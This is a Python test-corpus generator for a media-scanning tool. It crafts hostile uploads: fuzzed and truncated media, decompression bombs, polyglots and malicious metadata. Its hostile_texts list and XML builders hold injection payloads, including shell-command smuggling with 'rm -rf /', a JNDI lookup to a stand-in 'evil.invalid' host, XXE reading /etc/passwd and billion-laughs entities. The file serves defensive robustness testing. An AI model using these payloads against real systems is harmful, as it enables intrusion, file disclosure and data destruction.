"""A seeded generator of hostile input files, and the checks every one of them must pass.

A platform runs synthwatch on millions of uploads, so everything in a file is attacker-controlled:
pixels, samples, container headers, metadata text and the file's own name. :func:`generate` writes
a corpus of crafted files in families (:data:`FAMILIES`), the same bytes for the same seed;
:func:`run_case` feeds one of them to synthwatch's entry points and classifies what happened:

* ``ok`` - the entry point returned a result;
* ``typed`` - it raised a :class:`~synthwatch.errors.SynthwatchError` (the error code is recorded);
* ``untyped`` - it raised anything else (a bug: every fault must have a typed error);
* ``expected`` - a case that declares what it must give (:attr:`Case.expect`) gave something else.

Crashes (the checking process dies) and hangs (a case outlives its time bound) can only be seen
from outside; ``benchmarks/hostile.py`` runs the whole corpus in child processes and reports
crashes, hangs, untyped errors, peak memory and leaks (temporary files, processes, descriptors,
files written anywhere but the requested output) per family. ``tests/hostile`` runs a sample in CI.

The entry points (:data:`OPERATIONS`): ``media`` (probe, then decode: the image, every sampled
frame, every audio window), ``labels`` (the implicit label readers and SecurityData verification),
``provenance`` (every provenance signal and the labelling decision, as ``label check``) and
``scan`` (the whole pipeline with the model-free debug detectors).

Nothing here is used by a scan; it is shipped so that a platform can run the same suite against
its own deployment (``python benchmarks/hostile.py``).
"""

from __future__ import annotations

import io
import json
import os
import random
import shutil
import struct
import time
import traceback
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from fractions import Fraction
from pathlib import Path
from typing import Any

import numpy as np

__all__ = ["Case", "FAMILIES", "OPERATIONS", "Outcome", "generate", "materialise", "run_case", "hostile_texts",
           "hostile_names"]

#: every family the generator writes, in order
FAMILIES = (
    "truncated", "fuzzed", "bombs", "polyglots", "wrong_extensions", "odd_names", "huge_metadata",
    "malicious_metadata", "odd_audio", "odd_video", "containers", "junk_tails", "special_files", "random_bytes",
)
#: the entry points a case is fed to (see the module docstring)
OPERATIONS = ("media", "labels", "provenance", "scan")


@dataclass(frozen=True)
class Case:
    """One crafted input. ``name`` is the file name to use (itself possibly hostile, never a path);
    ``data`` its bytes. ``special`` makes something other than a regular file: ``fifo``,
    ``symlink_loop``, ``dangling_symlink``, ``directory``, ``device`` (a symlink to /dev/zero) or
    ``sparse`` (``data`` followed by a hole up to ``size`` bytes). ``expect`` maps an operation to
    what it must give: ``"ok"``, or an error ``code`` (``"typed"`` for any typed error)."""

    family: str
    name: str
    data: bytes = b""
    special: str = ""
    size: int = 0
    expect: dict[str, str] = field(default_factory=dict)
    note: str = ""


@dataclass
class Outcome:
    """What one operation did with one case."""

    family: str
    case: str
    operation: str
    status: str  # ok | typed | untyped | expected
    code: str = ""
    detail: str = ""
    seconds: float = 0.0

    def to_dict(self) -> dict[str, Any]:
        return {"family": self.family, "case": self.case, "operation": self.operation, "status": self.status,
                "code": self.code, "detail": self.detail, "seconds": round(self.seconds, 3)}


# ----------------------------------------------------------------------------------------------
# hostile text: what every name and metadata field gets tried with
# ----------------------------------------------------------------------------------------------


def hostile_texts() -> list[str]:
    """Text that a renderer, a log line, a template, a shell or a URL parser could take for more than text."""
    return [
        "[/]", "[bold red]x[/]", "[link=file:/etc/passwd]x[/link]", ":smile: :warning:",  # Rich markup / emoji
        "\x1b[31mred\x1b[0m\x1b]8;;http://evil.invalid\x07link\x1b]8;;\x07", "\x1b[2J\x1b[H", "\r\x08\x07",  # ANSI
        "{0} {__class__} %s %n %x {{}}", "${jndi:ldap://evil.invalid/a}", "{{7*7}} ${7*7} <%= 7*7 %>",  # templates
        "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/dev/zero",  # traversal
        "$(touch pwned) `id` ; rm -rf / | cat & echo", "-rf --help", "a'b\"c\\d",  # shell
        "<script>alert(1)</script>", "]]><!ENTITY x SYSTEM 'file:///etc/passwd'>", "&amp;&lt;&#0;",  # markup
        "concat:a.mp4|b.mp4", "http://127.0.0.1:9/x", "subfile,,start,0,end,1,,:/etc/passwd", "file:/etc/passwd",
        "\u202etxt.exe", "\ufeffbom", "\u0000nul", "日本語 العربية 🙂", "A" * 300,
    ]


def hostile_names() -> list[bytes]:
    """File names (bytes, one path component) built from :func:`hostile_texts`, plus names that are
    not valid UTF-8."""
    out: list[bytes] = []
    for text in hostile_texts():
        raw = text.replace("\x00", "").encode("utf-8", "surrogatepass")[:200]
        if raw.strip(b"./ "):
            out.append(raw + b".jpg")
    out += [b"\xff\xfe.jpg", b"caf\xe9.jpg", b"\xc3\x28.jpg", b"\xed\xa0\x80.jpg", b"-.jpg", b"\n.jpg",
            b"glob*?[x].jpg", b" .jpg", b"x" * 250 + b".jpg"]
    return out


# ----------------------------------------------------------------------------------------------
# base media: small, valid files of every supported format
# ----------------------------------------------------------------------------------------------

_IMAGES = {"jpeg": ".jpg", "png": ".png", "webp": ".webp", "gif": ".gif", "bmp": ".bmp", "tiff": ".tiff"}
_AUDIO = {"wav": ".wav", "flac": ".flac", "mp3": ".mp3", "ogg": ".ogg", "opus": ".opus", "m4a": ".m4a"}
_VIDEO = {"mp4": ".mp4", "mov": ".mov", "mkv": ".mkv", "webm": ".webm", "avi": ".avi"}


def base_media(folder: Path) -> dict[str, bytes]:
    """format -> bytes of a small valid file (images 96x64, audio 2 s of speech, video 1.5 s 96x64)."""
    from . import samples

    folder.mkdir(parents=True, exist_ok=True)
    out: dict[str, bytes] = {}
    for fmt, suffix in _IMAGES.items():
        p = folder / f"base{suffix}"
        if fmt in ("gif", "bmp", "tiff"):
            from PIL import Image

            rng = np.random.default_rng(1)
            Image.fromarray(rng.integers(0, 256, (64, 96, 3), dtype=np.uint8)).save(p)
        else:
            samples.make_image(p, size=(96, 64), face=False)
        out[fmt] = p.read_bytes()
    for fmt, suffix in _AUDIO.items():
        p = samples.make_speech(folder / f"base{suffix}", seconds=2.0)
        out[fmt] = p.read_bytes()
    for fmt, suffix in _VIDEO.items():
        codec = {"webm": "vp9", "avi": "mpeg4"}.get(fmt)
        p = samples.make_video(folder / f"base{suffix}", seconds=1.5, size=(96, 64), fps=10, codec=codec, face=False)
        out[fmt] = p.read_bytes()
    return out


#: base formats that carry an implicit label (the others are refused with label_unsupported_format)
_LABEL_CARRIERS = frozenset({"jpeg", "png", "webp", "wav", "flac", "mp3", "ogg", "opus", "m4a", "mp4", "mov", "mkv",
                             "webm"})


def _suffix(fmt: str) -> str:
    return {**_IMAGES, **_AUDIO, **_VIDEO}[fmt]


# ----------------------------------------------------------------------------------------------
# byte-level builders
# ----------------------------------------------------------------------------------------------


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)


def _png(width: int, height: int, extra: tuple[bytes, ...] | list[bytes] = (), mode: int = 2, depth: int = 8,
         idat: bytes | None = None) -> bytes:
    ihdr = struct.pack(">IIBBBBB", width, height, depth, mode, 0, 0, 0)
    channels = {0: 1, 2: 3, 3: 1, 4: 2, 6: 4}.get(mode, 3)
    row = 1 + (width * channels * depth + 7) // 8
    # a valid (blank) picture when it is small; the giants only need a header (limits refuse them first)
    data = idat if idat is not None else zlib.compress(b"\x00" * (row * height if width * height <= 1 << 20 else 64))
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + b"".join(extra) + _png_chunk(b"IDAT", data)
            + _png_chunk(b"IEND", b""))


def _box(typ: bytes, payload: bytes, size: int | None = None) -> bytes:
    return struct.pack(">I", 8 + len(payload) if size is None else size) + typ + payload


def _ebml_size(n: int) -> bytes:
    length = 1
    while n >= (1 << (7 * length)) - 1:
        length += 1
    return ((1 << (7 * length)) | n).to_bytes(length, "big")


def _ebml(eid: int, payload: bytes) -> bytes:
    return eid.to_bytes((eid.bit_length() + 7) // 8, "big") + _ebml_size(len(payload)) + payload


def _riff(form: bytes, chunks: list[tuple[bytes, bytes]], size: int | None = None) -> bytes:
    body = form + b"".join(c + struct.pack("<I", len(b)) + b + (b"\x00" if len(b) & 1 else b"") for c, b in chunks)
    return b"RIFF" + struct.pack("<I", len(body) if size is None else size) + body


def _wav_header(rate: int, channels: int, bits: int, fmt: int = 1, data_size: int | None = None) -> bytes:
    fmt_chunk = struct.pack("<HHIIHH", fmt, channels, rate, rate * channels * bits // 8, channels * bits // 8, bits)
    n = data_size if data_size is not None else 0
    return b"RIFF" + struct.pack("<I", min(36 + n, 0xFFFFFFFF)) + b"WAVE" + b"fmt " + struct.pack("<I", 16) + fmt_chunk + b"data" + \
        struct.pack("<I", n)


def _xmp(label_text: str, extra: str = "") -> bytes:
    from ..provenance.xmp import TC260_NS

    esc = label_text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return ('<?xpacket begin="\ufeff" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">'
            '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
            f'<rdf:Description rdf:about="" xmlns:TC260="{TC260_NS}" xmlns:xmp="http://ns.adobe.com/xap/1.0/">'
            f'<TC260:AIGC>{esc}</TC260:AIGC>{extra}</rdf:Description></rdf:RDF></x:xmpmeta>'
            '<?xpacket end="w"?>').encode()


def _label_json(text: str) -> str:
    return json.dumps({"AIGC": {"Label": "1", "ContentProducer": text, "ProduceID": text[:64], "ReservedCode1": text,
                                "ContentPropagator": text, "PropagateID": "x", "ReservedCode2": ""}},
                      ensure_ascii=False)


# ----------------------------------------------------------------------------------------------
# the families
# ----------------------------------------------------------------------------------------------


def _truncated(base: dict[str, bytes], rng: random.Random) -> Iterator[Case]:
    for fmt, data in base.items():
        for frac in (0.0, 0.02, 0.3, 0.6, 0.97):
            cut = max(1, int(len(data) * frac)) if frac else rng.randint(1, 16)
            yield Case("truncated", f"{fmt}-cut{cut}{_suffix(fmt)}", data[:cut])


def _fuzzed(base: dict[str, bytes], rng: random.Random, per_format: int) -> Iterator[Case]:
    values = [b"\xff\xff\xff\xff", b"\x00\x00\x00\x00", b"\x00\x00\x00\x01", b"\x7f\xff\xff\xff", b"\x00\x00\x00\x08",
              b"\x01" + b"\xff" * 7, b"\x80"]
    for fmt, data in base.items():
        for i in range(per_format):
            buf = bytearray(data)
            for _ in range(rng.randint(1, 8)):
                pos = rng.randrange(len(buf))
                r = rng.random()
                if r < 0.4:
                    buf[pos] ^= 1 << rng.randrange(8)
                elif r < 0.75:
                    v = rng.choice(values)
                    buf[pos:pos + len(v)] = v
                elif r < 0.9:
                    buf[pos:pos] = rng.randbytes(rng.randint(1, 64))
                else:
                    del buf[pos:pos + rng.randint(1, 256)]
            yield Case("fuzzed", f"{fmt}-fuzz{i}{_suffix(fmt)}", bytes(buf))


def _bombs(base: dict[str, bytes]) -> Iterator[Case]:
    yield Case("bombs", "png-100000x100000.png", _png(100_000, 100_000), expect={"media": "media_too_large"})
    yield Case("bombs", "png-65535x65535-rgba16.png", _png(65_535, 65_535, mode=6, depth=16),
               expect={"media": "media_too_large"})
    deflate = zlib.compress(b"\x00" * (200 << 20), 9)  # 200 MB of rows in a few hundred kB
    yield Case("bombs", "png-deflate-bomb.png", _png(20_000, 10_000, mode=0, idat=deflate),
               expect={"media": "media_too_large"})
    yield Case("bombs", "png-ztxt-bomb.png", _png(8, 8, [_png_chunk(b"zTXt", b"AIGC\x00\x00" + deflate)]))
    itxt = _png_chunk(b"iTXt", b"XML:com.adobe.xmp\x00\x01\x00\x00\x00" + zlib.compress(b"<" * (64 << 20), 9))
    yield Case("bombs", "png-xmp-bomb.png", _png(8, 8, [itxt]))
    sof = b"\xff\xc0\x00\x11\x08\xff\xff\xff\xff\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01"
    yield Case("bombs", "jpeg-65535x65535.jpg", b"\xff\xd8" + sof + b"\xff\xd9", expect={"media": "media_too_large"})
    yield Case("bombs", "gif-65535x65535.gif", b"GIF89a\xff\xff\xff\xff\x00\x00\x00" + b",\x00\x00\x00\x00\xff\xff\xff"
               b"\xff\x00\x02\x02D\x01\x00;", expect={"media": "media_too_large"})
    tiff = bytearray(b"II*\x00\x08\x00\x00\x00\x03\x00")
    tiff += struct.pack("<HHII", 256, 4, 1, 1_000_000) + struct.pack("<HHII", 257, 4, 1, 1_000_000)
    tiff += struct.pack("<HHII", 273, 4, 1, 8) + b"\x00\x00\x00\x00"
    yield Case("bombs", "tiff-1e6x1e6.tiff", bytes(tiff), expect={"media": "media_too_large"})
    # video and audio that declare far more than the limits allow
    mp4 = bytearray(base["mp4"])
    for typ in (b"mvhd", b"mdhd"):
        pos = mp4.find(typ)
        if pos > 0 and mp4[pos + 4] == 0:
            struct.pack_into(">I", mp4, pos + 4 + 16, 0xFFFFFFF0)
    yield Case("bombs", "mp4-huge-duration.mp4", bytes(mp4), expect={"media": "media_too_large"})
    yield Case("bombs", "wav-claims-4gib.wav", _wav_header(8000, 1, 16, data_size=0xFFFFFFF0) + b"\x00" * 4000)
    yield Case("bombs", "wav-9-channels-384khz.wav", _wav_header(384_000, 9, 32) + b"\x00" * 9 * 4 * 3840)
    yield Case("bombs", "webp-16383x16383.webp", _riff(b"WEBP", [(b"VP8L", b"\x2f" + struct.pack("<I", (16382 | 16382 << 14)
                                                                                         | (1 << 28)) + b"\x00" * 32)]))


def _polyglots(base: dict[str, bytes]) -> Iterator[Case]:
    zip_tail = b"PK\x03\x04" + bytes(26) + b"evil.sh" + b"#!/bin/sh\nid\n" + b"PK\x05\x06" + bytes(18)
    yield Case("polyglots", "jpeg+zip.jpg", base["jpeg"] + zip_tail, expect={"media": "ok"})
    yield Case("polyglots", "jpeg+mp4.mp4", base["jpeg"] + base["mp4"], expect={"media": "ok"})
    yield Case("polyglots", "png+html.png", base["png"] + b"<html><script>alert(1)</script></html>", expect={"media": "ok"})
    yield Case("polyglots", "zip+mp4.mp4", zip_tail + base["mp4"], expect={"media": "unsupported_media"})
    yield Case("polyglots", "pdf+jpeg.jpg", b"%PDF-1.7\n" + base["jpeg"], expect={"media": "unsupported_media"})
    yield Case("polyglots", "svg.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
               expect={"media": "unsupported_media"})
    yield Case("polyglots", "elf.mp3", b"\x7fELF" + bytes(200), expect={"media": "unsupported_media"})
    yield Case("polyglots", "gif+js.gif", b"GIF89a/*" + base["gif"][8:] + b"*/=1;alert(1)//")
    yield Case("polyglots", "wav+mp3.wav", base["wav"] + base["mp3"], expect={"media": "ok"})
    yield Case("polyglots", "mp3+zip.mp3", base["mp3"] + zip_tail)


def _wrong_extensions(base: dict[str, bytes], rng: random.Random) -> Iterator[Case]:
    suffixes = [".jpg", ".png", ".mp4", ".wav", ".flac", ".mkv", ".txt", ".exe", ""]
    for fmt, data in base.items():
        wrong = rng.choice([s for s in suffixes if s != _suffix(fmt)])
        labels = "ok" if fmt in _LABEL_CARRIERS else "label_unsupported_format"
        yield Case("wrong_extensions", f"{fmt}-as{wrong or '-none'}{wrong}", data,
                   expect={"media": "ok", "labels": labels, "provenance": "ok"})
    yield Case("wrong_extensions", "ogg-named.flac", base["ogg"], expect={"media": "ok", "labels": "ok", "provenance": "ok"},
               note="issue 19.6: the tag reader trusted the extension")
    yield Case("wrong_extensions", "opus-named.mp3", base["opus"], expect={"media": "ok", "labels": "ok"})
    yield Case("wrong_extensions", "png-named.mp4", base["png"], expect={"media": "ok", "labels": "ok"})


def _odd_names(base: dict[str, bytes]) -> Iterator[Case]:
    for i, raw in enumerate(hostile_names()):
        name = os.fsdecode(raw)
        yield Case("odd_names", name, base["jpeg"] if i % 2 == 0 else base["png"],
                   expect={"media": "ok", "labels": "ok", "provenance": "ok", "scan": "ok"})
    for stem in ("concat:a.mp4|b.mp4", "subfile,,start,0,end,64,,:x", "http:%2F%2F127.0.0.1%3A9%2Fx", "pipe:0"):
        yield Case("odd_names", stem + ".mp4", base["mp4"], expect={"media": "ok", "labels": "ok", "scan": "ok"},
                   note="issue 19.2: file names reached FFmpeg as protocol URLs")
    yield Case("odd_names", "a.mp4", base["mp4"])  # what concat:a.mp4|b.mp4 would also have read
    yield Case("odd_names", "b.mp4", base["mp4"])


def _huge_metadata(base: dict[str, bytes]) -> Iterator[Case]:
    big = "A" * (60 * 1024)
    # JPEG: one XMP APP1 at the segment limit, many APP segments, a huge EXIF
    xmp = b"http://ns.adobe.com/xap/1.0/\x00" + _xmp(_label_json("p"), "<xmp:x>" + "B" * 60_000 + "</xmp:x>")[:65_000]
    app1 = b"\xff\xe1" + struct.pack(">H", len(xmp) + 2) + xmp
    yield Case("huge_metadata", "jpeg-xmp-65k.jpg", base["jpeg"][:2] + app1 + base["jpeg"][2:])
    many = b"".join(b"\xff\xe2" + struct.pack(">H", 66) + bytes(64) for _ in range(60_000))
    yield Case("huge_metadata", "jpeg-60000-segments.jpg", base["jpeg"][:2] + many + base["jpeg"][2:])
    exif = b"Exif\x00\x00II*\x00\x08\x00\x00\x00" + struct.pack("<H", 1000) + b"".join(
        struct.pack("<HHII", 0x0131, 2, 0xFFFFFF, 8) for _ in range(1000))
    yield Case("huge_metadata", "jpeg-exif-lies.jpg",
               base["jpeg"][:2] + b"\xff\xe1" + struct.pack(">H", len(exif) + 2) + exif + base["jpeg"][2:])
    texts = [_png_chunk(b"tEXt", b"Comment\x00" + big.encode()) for _ in range(64)]
    yield Case("huge_metadata", "png-64-text-chunks.png", _png(8, 8, texts))
    yield Case("huge_metadata", "png-label-too-large.png", _png(8, 8, [_png_chunk(b"iTXt", b"XML:com.adobe.xmp\x00\x00\x00"
                                                                                  b"\x00\x00" + _xmp(_label_json(big * 2)))]))
    # MP4: a udta that is huge, an ilst with a 16 MB value
    udta = _box(b"udta", _box(b"AIGC", (_label_json("x") + " " * (16 << 20)).encode()))
    mp4 = base["mp4"]
    pos = mp4.find(b"moov") - 4
    if pos > 0:
        size = struct.unpack(">I", mp4[pos:pos + 4])[0]
        moov = mp4[pos:pos + size]
        new = struct.pack(">I", size + len(udta)) + moov[4:] + udta
        yield Case("huge_metadata", "mp4-16mb-udta.mp4", mp4[:pos] + new + mp4[pos + size:])
    # ID3 with a 32 MB frame, Vorbis comments by the thousand
    frame = b"TXXX" + struct.pack(">I", 32 << 20) + b"\x00\x00" + b"\x03AIGC\x00" + b"x" * (32 << 20)
    size = len(frame)
    synch = bytes([(size >> 21) & 0x7F, (size >> 14) & 0x7F, (size >> 7) & 0x7F, size & 0x7F])
    yield Case("huge_metadata", "mp3-id3-32mb.mp3", b"ID3\x04\x00\x00" + synch + frame + base["mp3"])
    yield Case("huge_metadata", "wav-16mb-info.wav",
               base["wav"][:12] + b"LIST" + struct.pack("<I", 4 + 8 + (16 << 20)) + b"INFO" + b"AIGC"
               + struct.pack("<I", 16 << 20) + b"y" * (16 << 20) + base["wav"][12:])


def _malicious_metadata(base: dict[str, bytes], rng: random.Random) -> Iterator[Case]:
    from PIL import Image, PngImagePlugin

    texts = hostile_texts()
    laughs = (b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
              b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><x:xmpmeta xmlns:x="adobe:ns:meta/">&c;</x:xmpmeta>')
    xxe = (b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
           b'<x:xmpmeta xmlns:x="adobe:ns:meta/">&e;</x:xmpmeta>')
    deep = ("<a>" * 100_000 + "</a>" * 100_000).encode()
    for i, payload in enumerate((laughs, xxe, deep)):
        seg = b"http://ns.adobe.com/xap/1.0/\x00" + payload[:65_000]
        yield Case("malicious_metadata", f"jpeg-xml-attack{i}.jpg",
                   base["jpeg"][:2] + b"\xff\xe1" + struct.pack(">H", len(seg) + 2) + seg + base["jpeg"][2:],
                   expect={"media": "ok", "scan": "ok"})
    deep_json = '{"AIGC":' * 5000 + "1" + "}" * 5000
    label_texts = texts + [deep_json, '{"AIGC":{"Label":"1"},"AIGC":{"Label":"2"}}', "\ud800", "\x00\x01\x02"]
    for i, text in enumerate(label_texts):
        label = _label_json(text) if i < len(texts) else text
        # PNG: the label as XMP, plus every hostile string as tEXt / iTXt and as EXIF Software
        safe = label.encode("utf-8", "replace").decode("utf-8")
        info = PngImagePlugin.PngInfo()
        info.add_itxt("XML:com.adobe.xmp", _xmp(safe).decode("utf-8"))
        info.add_text("Software", text.encode("utf-8", "replace").decode("latin-1", "replace"))
        info.add_itxt("Description", text.encode("utf-8", "replace").decode("utf-8"))
        im = Image.open(io.BytesIO(base["png"]))
        exif = Image.Exif()
        exif[0x0131] = text.encode("utf-8", "replace").decode("utf-8")
        exif[0x010F] = text.encode("utf-8", "replace").decode("utf-8")
        buf = io.BytesIO()
        im.save(buf, "PNG", pnginfo=info, exif=exif.tobytes())
        yield Case("malicious_metadata", f"png-text{i}.png", buf.getvalue(), expect={"media": "ok", "scan": "ok"})
    for i, text in enumerate(rng.sample(texts, 8)):
        value = _label_json(text).encode("utf-8", "replace")
        yield Case("malicious_metadata", f"wav-info{i}.wav", _with_wav_info(base["wav"], value + b"\x00"),
                   expect={"media": "ok", "scan": "ok"})
        yield Case("malicious_metadata", f"mp4-udta{i}.mp4", _with_mp4_udta(base["mp4"], value),
                   expect={"media": "ok", "scan": "ok"})
        yield Case("malicious_metadata", f"mkv-tag{i}.mkv", _with_mkv_tag(base["mkv"], value),
                   expect={"media": "ok", "scan": "ok"})
    bad_utf8 = _png_chunk(b"iTXt", b"XML:com.adobe.xmp\x00\x00\x00\x00\x00" + _xmp("x").replace(b">x<", b">\xff\xfe\xc3(<"))
    yield Case("malicious_metadata", "png-xmp-not-utf8.png", _png(8, 8, [bad_utf8]), expect={"media": "ok"})
    yield from _mutagen_tags(base, texts)


def _with_wav_info(wav: bytes, value: bytes) -> bytes:
    entry = b"AIGC" + struct.pack("<I", len(value)) + value + (b"\x00" if len(value) & 1 else b"")
    lst = b"LIST" + struct.pack("<I", 4 + len(entry)) + b"INFO" + entry
    body = wav[12:] + lst
    return b"RIFF" + struct.pack("<I", 4 + len(body)) + b"WAVE" + body


def _with_mp4_udta(mp4: bytes, value: bytes) -> bytes:
    pos = mp4.find(b"moov") - 4
    if pos < 0:
        return mp4
    size = struct.unpack(">I", mp4[pos:pos + 4])[0]
    udta = _box(b"udta", _box(b"AIGC", value) + _box(b"\xa9too", value))
    # the chunk offsets do not move when moov comes after mdat (as PyAV writes it)
    return mp4[:pos] + struct.pack(">I", size + len(udta)) + mp4[pos + 4:pos + size] + udta + mp4[pos + size:]


def _with_mkv_tag(mkv: bytes, value: bytes) -> bytes:
    simple = _ebml(0x67C8, _ebml(0x45A3, b"AIGC") + _ebml(0x4487, value))
    tags = _ebml(0x1254C367, _ebml(0x7373, _ebml(0x63C0, b"") + simple))
    return mkv + tags  # after the segment: read leniently, never trusted


def _mutagen_tags(base: dict[str, bytes], texts: list[str]) -> Iterator[Case]:
    import tempfile

    import mutagen
    import mutagen.flac
    import mutagen.id3

    with tempfile.TemporaryDirectory() as tmp:
        for fmt in ("mp3", "flac", "ogg"):
            for i, text in enumerate(texts[::4]):
                p = Path(tmp) / f"t{_suffix(fmt)}"
                p.write_bytes(base[fmt])
                value = _label_json(text).encode("utf-8", "replace").decode("utf-8")
                try:
                    if fmt == "mp3":
                        tags: Any = mutagen.id3.ID3()
                        tags.add(mutagen.id3.TXXX(encoding=3, desc="AIGC", text=[value]))
                        tags.add(mutagen.id3.TIT2(encoding=3, text=[value]))
                        tags.save(p)
                    else:
                        obj: Any = mutagen.File(p)
                        obj["AIGC"] = value
                        obj["TITLE"] = value
                        obj.save()
                except Exception:  # noqa: BLE001 - a tag mutagen refuses to write is simply not a case
                    continue
                yield Case("malicious_metadata", f"{fmt}-tag{i}{_suffix(fmt)}", p.read_bytes(),
                           expect={"media": "ok", "scan": "ok"})


def _odd_audio(base: dict[str, bytes]) -> Iterator[Case]:
    import soundfile as sf

    def wav(x: np.ndarray, rate: int, subtype: str) -> bytes:
        buf = io.BytesIO()
        sf.write(buf, x, rate, format="WAV", subtype=subtype)
        return buf.getvalue()

    t = np.arange(16_000, dtype=np.float32) / 16_000
    tone = (0.5 * np.sin(2 * np.pi * 440 * t)).astype(np.float32)
    for bad in ("nan", "inf", "-inf"):
        x = tone.copy()
        x[::1000] = float(bad)
        yield Case("odd_audio", f"float-{bad}.wav", wav(x, 16_000, "FLOAT"),
                   expect={"media": "corrupt_media", "scan": "corrupt_media"},
                   note="issue 19.6: NaN samples were detector_error")
    yield Case("odd_audio", "float-1e30.wav", wav(tone * 1e30, 16_000, "FLOAT"), expect={"scan": "ok"})
    yield Case("odd_audio", "one-sample.wav", wav(np.zeros(1, np.float32), 16_000, "PCM_16"), expect={"scan": "ok"})
    yield Case("odd_audio", "ten-ms.flac", _sf_bytes(tone[:160], 16_000, "FLAC"), expect={"scan": "ok"})
    yield Case("odd_audio", "rate-1hz.wav", _wav_header(1, 1, 16, data_size=20) + bytes(20))
    yield Case("odd_audio", "rate-zero.wav", _wav_header(0, 1, 16, data_size=20) + bytes(20))
    yield Case("odd_audio", "channels-zero.wav", _wav_header(16_000, 0, 16, data_size=20) + bytes(20))
    yield Case("odd_audio", "bits-3.wav", _wav_header(16_000, 1, 3, data_size=200) + bytes(200))
    yield Case("odd_audio", "64-channels.wav", wav(np.tile(tone[:1600, None], (1, 64)), 16_000, "PCM_16"),
               expect={"scan": "ok"})
    yield Case("odd_audio", "384khz.flac", _sf_bytes(np.tile(tone, 24)[:384_000], 384_000, "FLAC"), expect={"scan": "ok"})
    yield Case("odd_audio", "square-full-scale.wav", wav(np.sign(tone), 16_000, "PCM_16"), expect={"scan": "ok"})
    yield Case("odd_audio", "dc-offset.wav", wav(np.full(16_000, 0.9, np.float32), 16_000, "PCM_16"), expect={"scan": "ok"})
    yield Case("odd_audio", "mulaw.wav", wav(tone, 8_000, "ULAW"), expect={"scan": "ok"})
    yield Case("odd_audio", "silence-10min-8khz.flac", _sf_bytes(np.zeros(8_000 * 600, np.int16), 8_000, "FLAC"),
               expect={"media": "ok", "scan": "ok"}, note="issue 19.4: cost must follow the speech found")


def _sf_bytes(x: np.ndarray, rate: int, fmt: str) -> bytes:
    import soundfile as sf

    buf = io.BytesIO()
    sf.write(buf, x, rate, format=fmt, subtype="PCM_16")
    return buf.getvalue()


def _odd_video(base: dict[str, bytes], folder: Path) -> Iterator[Case]:
    import av

    def clip(name: str, w: int, h: int, frames: int, fps: Any = 10, codec: str = "mpeg4", fmt: str = "mp4",
             rotate: int = 0, pix_fmt: str = "yuv420p") -> bytes:
        p = folder / name
        with av.open(str(p), "w", format=fmt) as out:
            vs: Any = out.add_stream(codec, rate=fps)
            vs.width, vs.height, vs.pix_fmt = w, h, pix_fmt
            if rotate:
                vs.metadata["rotate"] = str(rotate)
            rng = np.random.default_rng(0)
            for _ in range(frames):
                img = rng.integers(0, 256, (h, w, 3), dtype=np.uint8)
                for pkt in vs.encode(av.VideoFrame.from_ndarray(img, format="rgb24")):
                    out.mux(pkt)
            for pkt in vs.encode():
                out.mux(pkt)
        return p.read_bytes()

    yield Case("odd_video", "2x2.mp4", clip("a.mp4", 2, 2, 10), expect={"scan": "ok"})
    yield Case("odd_video", "16x4096.mp4", clip("b.mp4", 16, 4096, 3), expect={"scan": "ok"})
    yield Case("odd_video", "one-frame.mp4", clip("c.mp4", 64, 48, 1), expect={"scan": "ok"})
    yield Case("odd_video", "1000fps.mp4", clip("d.mp4", 32, 32, 50, fps=1000), expect={"scan": "ok"})
    yield Case("odd_video", "fps-1-in-1000.mkv", clip("e.mkv", 32, 32, 3, fps=Fraction(1, 1000), fmt="matroska"))
    yield Case("odd_video", "mjpeg.avi", clip("f.avi", 48, 32, 5, codec="mjpeg", fmt="avi", pix_fmt="yuvj420p"), expect={"scan": "ok"})
    yield Case("odd_video", "video-no-streams.mp4", _box(b"ftyp", b"isom\x00\x00\x02\x00isom") + _box(b"moov", b""),
               expect={"media": "typed"})
    yield Case("odd_video", "mdat-only.mp4", _box(b"mdat", bytes(4096)), expect={"media": "typed"})


def _containers(rng: random.Random) -> Iterator[Case]:
    ftyp = _box(b"ftyp", b"isom\x00\x00\x02\x00isomiso2mp41")
    yield Case("containers", "iso-deep.mp4", ftyp + _nested_boxes([b"moov", b"trak", b"mdia", b"minf"] * 200))
    yield Case("containers", "iso-100k-boxes.mp4", ftyp + _box(b"free", b"") * 100_000)
    yield Case("containers", "iso-size-lies.mp4", ftyp + _box(b"moov", _box(b"trak", b"x" * 10, size=0xFFFFFFF0)))
    yield Case("containers", "iso-64bit-size.mp4", ftyp + struct.pack(">I4sQ", 1, b"moov", (1 << 63) + 5) + bytes(64))
    yield Case("containers", "iso-size-below-header.mp4", ftyp + struct.pack(">I4s", 3, b"moov") + bytes(64))
    yield Case("containers", "iso-stco-out-of-file.mp4",
               ftyp + _box(b"moov", _box(b"trak", _box(b"mdia", _box(b"minf", _box(b"stbl", _box(
                   b"stco", b"\x00" * 4 + struct.pack(">I", 3) + struct.pack(">III", 1 << 31, 5, 0xFFFFFFFF))))))))
    ebml_head = _ebml(0x1A45DFA3, _ebml(0x4282, b"matroska"))
    yield Case("containers", "ebml-unknown-sizes.mkv",
               ebml_head + b"\x18\x53\x80\x67\x01\xff\xff\xff\xff\xff\xff\xff" + b"\x1f\x43\xb6\x75\xff" + bytes(512))
    deep = b"".join(b"\x67\xc8\x10\x00\x00\x00" for _ in range(20_000))
    yield Case("containers", "ebml-deep-simpletags.mkv",
               ebml_head + _ebml(0x18538067, _ebml(0x1254C367, _ebml(0x7373, deep))))
    yield Case("containers", "ebml-bad-vint.mkv", ebml_head + b"\x18\x53\x80\x67\x00" + bytes(64))
